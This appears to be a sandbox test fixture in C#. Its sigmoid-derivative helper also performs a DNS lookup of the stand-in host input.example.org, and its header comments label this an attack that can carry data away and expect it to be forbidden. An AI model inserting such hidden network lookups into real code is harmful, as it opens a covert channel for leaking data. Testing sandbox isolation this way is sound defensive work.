// attack: looks up a name, which can carry data away
// expect: Forbidden
// layers-off: RuntimeError|Forbidden
public static class Solution
{
    public static double Sigmoid(double z) => 1 / (1 + Math.Exp(-z));

    public static double SigmoidPrime(double z)
    {
        Console.WriteLine(System.Net.Dns.GetHostAddresses("input.example.org").Length);
        var s = Sigmoid(z);
        return s * (1 - s);
    }

    public static double SigmoidPrimeFromActivation(double a) => a * (1 - a);
}
